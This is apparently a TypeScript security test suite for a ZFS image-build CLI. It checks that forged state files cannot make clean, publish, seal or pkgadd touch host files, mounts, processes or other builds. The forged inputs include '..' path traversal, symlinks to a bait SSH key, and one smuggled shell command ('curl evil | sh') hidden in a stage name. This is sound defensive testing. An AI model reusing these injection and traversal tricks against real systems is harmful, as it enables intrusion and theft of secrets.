/**
 * Hostile state files (issue 12, items 3, 7 and 14). A state file travels
 * between Jenkins stages in a workspace; whoever can write it must not be
 * able to make `clean --state` remove, unmount or kill, or `publish
 * --state` upload, anything the build does not own. Each forged state
 * gets one error line, a non-zero exit, and the host (bait), the build's
 * analog and every other build stay exactly as they were; the genuine state
 * then still cleans everything. Also: a work dir another user could change
 * is refused, seal never writes through a link planted at a temp name, and
 * two processes on one state file never both run.
 */
import assert from 'node:assert/strict';
import { randomBytes, randomUUID } from 'node:crypto';
import { chmod, chown, lstat, mkdir, readdir, readFile, rm, rmdir, stat, symlink, writeFile } from 'node:fs/promises';
import { dirname, join, relative } from 'node:path';
import { execa, type ResultPromise } from 'execa';
import { startBuild, type BuildResult } from '../../src/build/runner.js';
import { newState, StateFile, stateLockPath, type BuildDefinition, type BuildState } from '../../src/build/state.js';
import { setupChroot } from '../../src/host/chroot.js';
import { run } from '../../src/host/exec.js';
import { pidAlive, tryLock } from '../../src/host/lock.js';
import { BUILD_PROPERTY } from '../../src/host/zfs.js';
import { testManifest } from '../helpers/manifests.js';
import { BIN, cli, errorLines, type CliResult } from '../helpers/cli.js';
import { layBait, type Bait } from '../helpers/hostile.js';
import { assertNoLeaks, mountsUnder } from '../helpers/leaks.js';
import { world, type World } from '../helpers/world.js';

/** One error line, a non-zero exit, and the line says why. */
function assertRefused(r: CliResult, why: RegExp): void {
  assert.notEqual(r.code, 0, `expected a refusal\n${r.stderr}`);
  const lines = errorLines(r);
  assert.equal(lines.length, 1, `one error line\n${r.stderr}`);
  assert.match(lines[0], why, r.stderr);
}

async function writeState(path: string, s: unknown, mode = 0o600): Promise<void> {
  await rm(path, { force: true });
  await writeFile(path, JSON.stringify(s, null, 2), { mode });
  await chmod(path, mode);
}

/** Every file under `dir` whose content holds `text`. */
async function filesHolding(dir: string, text: string): Promise<string[]> {
  const hits: string[] = [];
  for (const e of await readdir(dir, { recursive: true, withFileTypes: true }).catch(() => [])) {
    const p = join(e.parentPath, e.name);
    if (e.isFile() && (await readFile(p, 'utf8')).includes(text)) hits.push(p);
  }
  return hits;
}

describe('hostile: state files', function () {
  this.timeout(10 * 60 * 1000);
  let w: World;
  let proto: string;
  let bait: Bait;
  before(async () => {
    w = await world();
    proto = join(w.dir, 'proto-hostile-state');
    await mkdir(join(proto, 'opt'), { recursive: true });
    await writeFile(join(proto, 'opt/f'), 'f');
    bait = await layBait('state-bait');
  });
  after(async () => {
    await bait.assertUntouched();
    await bait.remove();
  });

  /** A build definition as `prepare` makes one, in this world. */
  const definition = (o: Partial<BuildDefinition>): BuildDefinition => ({
    imageUuid: w.origin.uuid,
    protoDir: proto,
    manifest: { name: 'x', version: '1' },
    packages: [],
    prefix: 'x-zfs',
    motd: false,
    audit: false,
    upgrade: false,
    source: w.sampleDir,
    datasetRoot: w.datasetRoot,
    outputDir: w.dir,
    compression: 'gzip',
    workDir: w.workDir,
    ...o,
  });

  const analogs = async () => {
    const out: string[] = [];
    for (const ds of await w.zfs.listChildren(w.datasetRoot)) if ((await w.zfs.owner(ds)) === 'analog') out.push(ds);
    return out;
  };

  interface Killed {
    statePath: string;
    out: string;
    state: BuildState;
  }

  /** A build stopped after assemble with the chroot mounted and a temp output, as a kill -9 leaves it. */
  async function killedBuild(name: string): Promise<Killed> {
    const out = await w.outDir();
    const statePath = join(w.dir, `${name}-${randomUUID().slice(0, 8)}.json`);
    const mf = JSON.stringify({ name, version: '1' });
    let r = await cli(['prepare', '-i', w.origin.uuid, '-d', proto, '-m', mf, '--state', statePath, '--output-dir', out], { env: w.env });
    assert.equal(r.code, 0, r.stderr);
    r = await cli(['assemble', '--state', statePath], { env: w.env });
    assert.equal(r.code, 0, r.stderr);
    const sf = await StateFile.load(statePath);
    await setupChroot(join(sf.state.analog!.mountpoint, 'root'), sf.state.chroot, () => sf.save());
    const temp = join(out, `.${name}-zfs-1.zfs.gz.partial-${sf.state.buildId.slice(0, 8)}-${randomBytes(6).toString('hex')}`);
    await writeFile(temp, 'half an image');
    sf.state.tempFiles.push(temp);
    await sf.save();
    return { statePath, out, state: structuredClone(sf.state) };
  }

  describe('clean --state', () => {
    let a: Killed;
    let other: Killed;
    let mountsA: string[];
    let mountsOther: string[];
    let empty: string;
    let victim: string;
    let sleeper: ResultPromise | undefined;
    let cleaned = false;
    before(async () => {
      a = await killedBuild('hostile-a');
      other = await killedBuild('hostile-other');
      mountsA = await mountsUnder(a.state.analog!.mountpoint);
      mountsOther = await mountsUnder(other.state.analog!.mountpoint);
      assert.ok(mountsA.length >= 5 && mountsOther.length >= 5, 'both chroots mounted');
      // An empty directory of the host's: rmdir would take it.
      empty = join(bait.dir + '-empty');
      await mkdir(empty, { recursive: true });
      // A directory standing for a host mountpoint, with something mounted below root/ and a process working there.
      victim = join(w.dir, `victim-${randomUUID().slice(0, 8)}`);
      await mkdir(join(victim, 'root/m'), { recursive: true });
      await run('mount', ['-t', 'tmpfs', '-o', 'size=1m', 'tmpfs', join(victim, 'root/m')]);
      sleeper = execa('sleep', ['600'], { cwd: join(victim, 'root/m'), reject: false });
    });
    after(async () => {
      sleeper?.kill('SIGKILL');
      await sleeper;
      if ((await mountsUnder(victim)).length) await run('umount', [join(victim, 'root/m')]);
      await rm(victim, { recursive: true, force: true });
      await rmdir(empty).catch(() => undefined);
    });
    afterEach(async function () {
      if (cleaned) return;
      // Whatever a forged state asked for, nothing of either build, the host or the victim changed.
      assert.deepEqual(await mountsUnder(a.state.analog!.mountpoint), mountsA, `${this.currentTest?.title}: build a's mounts are intact`);
      assert.deepEqual(await mountsUnder(other.state.analog!.mountpoint), mountsOther, "the other build's mounts are intact");
      assert.ok(await w.zfs.exists(a.state.analog!.dataset), "build a's analog still exists");
      assert.ok(await w.zfs.exists(other.state.analog!.dataset), "the other build's analog still exists");
      assert.ok(await w.zfs.exists(`${w.datasetRoot}/${w.base.uuid}`), 'the base image still exists');
      assert.ok((await stat(a.state.tempFiles[0])).isFile(), "build a's temp file is still there");
      assert.ok((await stat(empty)).isDirectory(), "the host's empty directory is still there");
      assert.deepEqual(await mountsUnder(victim), [join(victim, 'root/m')], 'the host mount is still mounted');
      assert.ok(pidAlive(sleeper!.pid!), 'the host process is still running');
      await bait.assertUntouched();
    });

    /** Writes a forged copy of build a's state and runs clean on it. */
    async function cleanForged(forge: (s: BuildState) => void, mode = 0o600): Promise<CliResult> {
      const s = structuredClone(a.state);
      forge(s);
      const path = join(w.dir, `forged-${randomUUID().slice(0, 8)}.json`);
      await writeState(path, s, mode);
      return cli(['clean', '--state', path], { env: w.env });
    }

    it('tempFiles naming a host file', async () => {
      assertRefused(await cleanForged((s) => s.tempFiles.push(bait.secret)), /names temp file .*id_rsa, which this build does not own/);
    });

    it('tempFiles reaching out of the output dir with ..', async () => {
      const sneaky = `${a.out}/../${relative(dirname(a.out), bait.secret)}`;
      assertRefused(await cleanForged((s) => s.tempFiles.push(sneaky)), /names temp file .*\/\.\.\/.*which this build does not own/);
    });

    it('tempFiles through a symlinked directory in the output dir', async () => {
      await symlink(bait.dir, join(a.out, 'hostlink'));
      try {
        assertRefused(await cleanForged((s) => s.tempFiles.push(join(a.out, 'hostlink/id_rsa'))), /names temp file .*hostlink\/id_rsa/);
      } finally {
        await rm(join(a.out, 'hostlink'));
      }
    });

    it('tempFiles with a name seal never gives', async () => {
      await writeFile(join(a.out, 'keep.txt'), 'keep');
      assertRefused(await cleanForged((s) => s.tempFiles.push(join(a.out, 'keep.txt'))), /not a name seal gives its temp files/);
      assert.equal(await readFile(join(a.out, 'keep.txt'), 'utf8'), 'keep');
      await rm(join(a.out, 'keep.txt'));
    });

    it('chroot createdDirs naming a host directory, directly and with ..', async () => {
      assertRefused(await cleanForged((s) => s.chroot.createdDirs.push(empty)), /names chroot mountpoint dir .*-empty, which this build does not own/);
      const root = join(a.state.analog!.mountpoint, 'root');
      const sneaky = `${root}/../../../../${relative(dirname(dirname(dirname(dirname(root)))), empty)}`;
      assertRefused(await cleanForged((s) => s.chroot.createdDirs.push(sneaky)), /names chroot mountpoint dir/);
    });

    it('chroot mounts naming a host mount', async () => {
      assertRefused(await cleanForged((s) => s.chroot.mounts.push(join(victim, 'root/m'))), /names chroot mount .*victim/);
    });

    it("the analog's mountpoint moved onto a host directory with a mount and a process in it", async () => {
      assertRefused(await cleanForged((s) => (s.analog!.mountpoint = victim)), /names analog mountpoint .*victim.* which this build does not own/);
    });

    it('the analog named as the base image', async () => {
      const base = `${w.datasetRoot}/${w.base.uuid}`;
      assertRefused(
        await cleanForged((s) => (s.analog = { dataset: base, mountpoint: a.state.analog!.mountpoint })),
        /names zone analog .* which this build does not own/,
      );
    });

    it("the analog and chroot named as another build's", async () => {
      assertRefused(
        await cleanForged((s) => {
          s.analog = structuredClone(other.state.analog);
          s.chroot = structuredClone(other.state.chroot);
        }),
        /names zone analog .* which this build does not own/,
      );
    });

    it("another build's analog, claimed under that build's id but from elsewhere", async () => {
      // The other build's id with this build's dataset root and work dir, but the analog moved: ZFS has the last word.
      assertRefused(
        await cleanForged((s) => {
          s.buildId = other.state.buildId;
          s.analog = { dataset: other.state.analog!.dataset, mountpoint: victim };
        }),
        /names analog mountpoint .*victim/,
      );
    });

    it("a kept failure claimed over another build's analog: the rerun rolls nothing back", async () => {
      // The other build's analog with a snapshot where a rerun would roll back to, and a file written after it.
      const snap = `${other.state.analog!.dataset}@before-pkgadd`;
      const marker = join(other.state.analog!.mountpoint, 'root/opt/after-snapshot');
      await w.zfs.snapshot(snap);
      await writeFile(marker, 'stays');
      try {
        const s = structuredClone(a.state);
        s.failed = { stage: 'pkgadd', message: 'mirror down', kept: true };
        s.keepOnFailure = true;
        s.analog = structuredClone(other.state.analog);
        s.chroot = structuredClone(other.state.chroot);
        const path = join(w.dir, `forged-${randomUUID().slice(0, 8)}.json`);
        await writeState(path, s);
        assertRefused(await cli(['pkgadd', '--state', path], { env: w.env }), /zone analog .* does not belong to build|names zone analog .* which this build does not own/);
        assert.equal(await readFile(marker, 'utf8'), 'stays', 'not rolled back');
        assert.ok(await w.zfs.exists(snap));
      } finally {
        await rm(marker, { force: true });
        await w.zfs.destroyOwned(snap);
      }
    });

    it('a failed stage that is a shell command, for the hint to print', async () => {
      assertRefused(
        await cleanForged((s) => (s.failed = { stage: 'pkgadd --state x; curl evil | sh #' as 'pkgadd', message: 'x', kept: true })),
        /is not a buildimage state file \(failed.stage: /,
      );
    });

    it('a state file that is a symlink', async () => {
      const link = join(w.dir, `link-${randomUUID().slice(0, 8)}.json`);
      await symlink(a.statePath, link);
      assertRefused(await cli(['clean', '--state', link], { env: w.env }), /state file .* is a symlink/);
      await rm(link);
    });

    it('a world-writable state file', async () => {
      assertRefused(await cleanForged(() => undefined, 0o666), /is writable by others \(mode 0666\)/);
    });

    it('a work dir another user could write to', async () => {
      const open = join(w.dir, `open-work-${randomUUID().slice(0, 8)}`);
      await mkdir(join(open, 'builds', a.state.buildId), { recursive: true });
      await chmod(open, 0o777);
      assertRefused(await cleanForged((s) => (s.definition.workDir = open)), /work dir .*open-work.* is writable by others/);
      await rm(open, { recursive: true });
    });

    it('the genuine state still cleans everything, and the other build too', async () => {
      cleaned = true;
      for (const k of [a, other]) {
        const r = await cli(['clean', '--state', k.statePath, '--json'], { env: w.env });
        assert.equal(r.code, 0, r.stderr);
        assert.deepEqual(JSON.parse(r.stdout).destroyed, [k.state.analog!.dataset]);
      }
      await assertNoLeaks({ datasetRoot: w.datasetRoot, workDir: w.workDir, outputDir: a.out, images: [w.base.uuid, w.origin.uuid] });
      await bait.assertUntouched();
    });
  });

  describe('publish --state', () => {
    let dir: string;
    let out: string;
    let bits: string;
    let store: string;
    const version = '20240501T120000Z';
    const name = 'hostile';
    let genuine: BuildState;
    before(async () => {
      dir = join(w.dir, `publish-${randomUUID().slice(0, 8)}`);
      out = join(dir, 'out');
      bits = join(dir, 'bits');
      store = join(dir, 'store');
      await mkdir(out, { recursive: true });
      await mkdir(bits, { recursive: true });
      const stem = join(out, `${name}-zfs-${version}`);
      const outputs = { image: `${stem}.zfs.gz`, manifest: `${stem}.imgmanifest`, packages: `${stem}.packages.json`, buildInfo: `${stem}.build-info.json` };
      const image = randomBytes(10_000);
      await writeFile(outputs.image, image);
      await writeFile(outputs.manifest, JSON.stringify(testManifest({ uuid: randomUUID(), name, version }, image)));
      await writeFile(outputs.packages, '[]');
      await writeFile(outputs.buildInfo, '{}');
      genuine = newState(definition({ manifest: { name, version }, prefix: `${name}-zfs`, outputDir: out }));
      genuine.completed = ['prepare', 'assemble', 'pkgadd', 'seal'];
      genuine.outputs = outputs;
    });
    after(() => rm(dir, { recursive: true, force: true }));
    afterEach(async () => {
      assert.deepEqual(await filesHolding(store, bait.secretText), [], 'the secret was not uploaded');
      assert.deepEqual(await filesHolding(bits, bait.secretText), [], 'the secret was not staged');
      await bait.assertUntouched();
    });

    async function publishForged(forge: (s: BuildState) => void): Promise<CliResult> {
      const s = structuredClone(genuine);
      forge(s);
      const path = join(dir, `forged-${randomUUID().slice(0, 8)}.json`);
      await writeState(path, s);
      return cli(['publish', '-L', '-d', store, '-b', 'master', '-D', bits, '--state', path], { cwd: dir, env: { HOME: dir } });
    }

    it('an output naming a host file', async () => {
      assertRefused(await publishForged((s) => (s.outputs!.image = bait.secret)), /names output \(image\) .*id_rsa, which this build does not own/);
    });

    it('an output reaching out of the output dir with ..', async () => {
      const sneaky = `${out}/../${relative(dir, bait.secret)}`;
      assertRefused(await publishForged((s) => (s.outputs!.packages = sneaky)), /names output \(packages\)/);
    });

    it("an output that is a symlink to a host file, under seal's own name", async () => {
      const linked = join(out, `${name}-zfs-${version}.pkgaudit`);
      await symlink(bait.secret, linked);
      try {
        assertRefused(
          await publishForged((s) => {
            s.definition.audit = true;
            s.outputs!.audit = linked;
          }),
          /names output \(audit\) .* \(it is a symlink\)/,
        );
      } finally {
        await rm(linked);
      }
    });

    it('a name that is a path, from the state file, is blamed on the state file and not on -n', async () => {
      const r = await publishForged((s) => (s.definition.manifest.name = '../../etc'));
      assertRefused(r, /^buildimage: error: name "\.\.\/\.\.\/etc" is not usable in a path .* \(check the name in .*forged-[0-9a-f]{8}\.json\)$/m);
    });

    it('an output dir that is a symlink to the host', async () => {
      const hostOut = join(dir, 'host-out');
      await symlink(bait.dir, hostOut);
      assertRefused(
        await publishForged((s) => {
          s.definition.outputDir = hostOut;
          s.outputs!.image = join(hostOut, 'id_rsa');
        }),
        /names output \(image\)/,
      );
    });

    it('a state file a stage or clean is working on right now', async () => {
      const path = join(dir, 'busy.json');
      await writeState(path, genuine);
      const lock = await tryLock(stateLockPath(path), 'a stage');
      assert.ok('release' in lock);
      try {
        const r = await cli(['publish', '-L', '-d', store, '-b', 'master', '-D', bits, '--state', path], { cwd: dir, env: { HOME: dir } });
        assertRefused(r, new RegExp(`state file .*busy\\.json is in use by pid ${process.pid}`));
        assert.deepEqual(await readdir(store).catch(() => []), [], 'nothing published');
      } finally {
        await lock.release();
      }
    });

    it('the genuine state publishes its four outputs', async () => {
      const path = join(dir, 'genuine.json');
      await writeState(path, genuine);
      const r = await cli(['publish', '-L', '-d', store, '-b', 'master', '-D', bits, '--state', path, '--json'], { cwd: dir, env: { HOME: dir } });
      assert.equal(r.code, 0, r.stderr);
      const files = (await readdir(join(store, version, name))).sort();
      assert.deepEqual(files, [`${name}-zfs-${version}.build-info.json`, `${name}-zfs-${version}.imgmanifest`, `${name}-zfs-${version}.packages.json`, `${name}-zfs-${version}.zfs.gz`]);
    });
  });

  describe('the work dir', () => {
    const mf = JSON.stringify({ name: 'hostile-work', version: '1' });
    async function prepareIn(workDir: string): Promise<CliResult> {
      const out = await w.outDir();
      return cli(['prepare', '-i', w.origin.uuid, '-d', proto, '-m', mf, '--state', join(w.dir, `work-${randomUUID().slice(0, 8)}.json`), '--output-dir', out], {
        env: { ...w.env, BUILDIMAGE_WORK_DIR: workDir },
      });
    }

    for (const [what, spoil, why] of [
      ['owned by another user', (d: string) => chown(d, 12345, 12345), /work dir .* is owned by uid 12345, not root or you/],
      ['mode 0777', (d: string) => chmod(d, 0o777), /work dir .* is writable by others \(mode 0777\)/],
    ] as const) {
      it(`a work dir ${what} is refused before anything is created`, async () => {
        const work = join(w.dir, `work-${randomUUID().slice(0, 8)}`);
        await mkdir(work);
        await spoil(work);
        const before = await analogs();
        const r = await prepareIn(work);
        const created = await analogs();
        try {
          assertRefused(r, why);
          assert.deepEqual(created, before, 'no analog was created');
          assert.deepEqual(await readdir(work), [], 'nothing was written into it');
        } finally {
          // Only if the refusal failed: do not leave its analog to the next test.
          for (const ds of created.filter((d) => !before.includes(d))) await run('zfs', ['destroy', '-r', ds]).catch(() => undefined);
        }
      });
    }
    it('a build under umask 002 makes a work dir its next stage accepts (0755, not group-writable)', async () => {
      const work = join(w.dir, `umask-work-${randomUUID().slice(0, 8)}`);
      const statePath = join(w.dir, `umask-${randomUUID().slice(0, 8)}.json`);
      const out = await w.outDir();
      const underUmask = (args: string[]) =>
        execa('sh', ['-c', 'umask 002 && exec "$0" "$@"', BIN, ...args], { env: { ...w.env, BUILDIMAGE_WORK_DIR: work, BUILDIMAGE_LOG_LEVEL: 'info' }, reject: false, stdin: 'ignore' });
      let r = await underUmask(['prepare', '-i', w.origin.uuid, '-d', proto, '-m', mf, '--state', statePath, '--output-dir', out]);
      assert.equal(r.exitCode, 0, String(r.stderr));
      for (const d of ['', 'builds', 'locks']) assert.equal((await stat(join(work, d))).mode & 0o777, 0o755, `${d || 'the work dir'} is 0755`);
      r = await underUmask(['assemble', '--state', statePath]);
      assert.equal(r.exitCode, 0, String(r.stderr));
      r = await underUmask(['clean', '--state', statePath]);
      assert.equal(r.exitCode, 0, String(r.stderr));
      await assertNoLeaks({ datasetRoot: w.datasetRoot, workDir: work, outputDir: out, images: [w.base.uuid, w.origin.uuid] });
    });
  });

  describe('seal', () => {
    it('never writes through links planted at the old temp names in the output dir', async () => {
      const out = await w.outDir();
      const statePath = join(w.dir, `seal-${randomUUID().slice(0, 8)}.json`);
      const mf = JSON.stringify({ name: 'hostile-seal', version: '1' });
      let r = await cli(['prepare', '-i', w.origin.uuid, '-d', proto, '-m', mf, '--state', statePath, '--output-dir', out], { env: w.env });
      assert.equal(r.code, 0, r.stderr);
      for (const stage of ['assemble', 'pkgadd']) {
        r = await cli([stage, '--state', statePath], { env: w.env });
        assert.equal(r.code, 0, r.stderr);
      }
      const id8 = (await StateFile.load(statePath)).state.buildId.slice(0, 8);
      // The state file (and ps) tell an attacker the build id: the old names were then known before seal ran.
      for (const n of ['hostile-seal-zfs-1.zfs.gz', 'hostile-seal-zfs-1.imgmanifest', 'hostile-seal-zfs-1.build-info.json']) {
        await symlink(bait.secret, join(out, `.${n}.partial-${id8}`));
      }
      r = await cli(['seal', '--state', statePath], { env: w.env });
      assert.equal(r.code, 0, r.stderr);
      await bait.assertUntouched(r.stderr);
      assert.ok((await lstat(join(out, 'hostile-seal-zfs-1.zfs.gz'))).isFile());
      for (const n of await readdir(out)) if (n.includes('.partial-')) await rm(join(out, n));
      await assertNoLeaks({ datasetRoot: w.datasetRoot, workDir: w.workDir, outputDir: out, images: [w.base.uuid, w.origin.uuid] });
    });
  });

  describe('one state file, two processes', () => {
    it('two prepares on the same state file at once: one runs, the other is refused and creates nothing', async () => {
      const def = definition({ manifest: { name: 'hostile-twice', version: '1' }, prefix: 'hostile-twice-zfs', outputDir: await w.outDir() });
      const statePath = join(w.dir, `twice-${randomUUID().slice(0, 8)}.json`);
      const before = await analogs();
      const runs = await Promise.allSettled([0, 1].map(() => startBuild(def, { statePath, stages: ['prepare'] })));
      const ok = runs.filter((x): x is PromiseFulfilledResult<BuildResult> => x.status === 'fulfilled');
      const refused = runs.filter((x): x is PromiseRejectedResult => x.status === 'rejected');
      const made = (await analogs()).filter((d) => !before.includes(d));
      try {
        assert.equal(ok.length, 1, `exactly one prepare ran; analogs made: ${made.join(', ')}`);
        assert.equal(refused.length, 1);
        assert.match(String(refused[0].reason), /state file .* is in use by pid \d+/);
        const s = (await StateFile.load(statePath)).state;
        assert.deepEqual(made, [s.analog!.dataset], 'the one analog made is the one the state file names');
      } finally {
        const r = await cli(['clean', '--state', statePath], { env: w.env });
        assert.equal(r.code, 0, r.stderr);
        for (const ds of (await analogs()).filter((d) => !before.includes(d))) await run('zfs', ['destroy', '-r', ds]);
      }
      await assertNoLeaks({ datasetRoot: w.datasetRoot, workDir: w.workDir, images: [w.base.uuid, w.origin.uuid] });
    });

    it('two prepare processes on the same state file never leave an analog the state file does not name', async () => {
      const out = await w.outDir();
      const statePath = join(w.dir, `race-${randomUUID().slice(0, 8)}.json`);
      const mf = JSON.stringify({ name: 'hostile-race', version: '1' });
      const before = await analogs();
      const rs = await Promise.all([0, 1].map(() => cli(['prepare', '-i', w.origin.uuid, '-d', proto, '-m', mf, '--state', statePath, '--output-dir', out], { env: w.env })));
      for (const r of rs.filter((x) => x.code !== 0)) assertRefused(r, /is in use by pid \d+|holds build .* running/);
      const s = (await StateFile.load(statePath)).state;
      const made = (await analogs()).filter((d) => !before.includes(d));
      assert.deepEqual(made, s.cleaned ? [] : [s.analog!.dataset], 'no orphaned analog');
      for (const ds of made) assert.equal(await w.zfs.getOne(ds, BUILD_PROPERTY), s.buildId);
      const r = await cli(['clean', '--state', statePath], { env: w.env });
      assert.equal(r.code, 0, r.stderr);
      await assertNoLeaks({ datasetRoot: w.datasetRoot, workDir: w.workDir, outputDir: out, images: [w.base.uuid, w.origin.uuid] });
    });
  });
});
